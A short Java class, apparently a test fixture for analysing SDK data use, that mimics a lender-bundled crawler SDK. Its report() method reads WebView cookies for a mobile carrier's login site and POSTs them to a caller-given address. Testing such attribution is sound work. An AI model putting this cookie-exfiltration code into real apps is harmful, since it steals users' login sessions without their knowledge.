package com.moxie.client;

import android.webkit.CookieManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/**
 * Stands in for a crawler SDK that lenders bundled: only the package name is the vendor's, no line of
 * its code. Finding: the owner of this use is the SDK, not the app.
 */
public final class MoxieTask {
    private MoxieTask() {}

    public static void report(String address) throws IOException {
        String cookies = CookieManager.getInstance().getCookie("https://login.10086.cn/");
        HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection();
        connection.setDoOutput(true);
        OutputStream output = connection.getOutputStream();
        output.write(("login_params=" + cookies).getBytes("UTF-8"));
        output.close();
        connection.getResponseCode();
    }
}
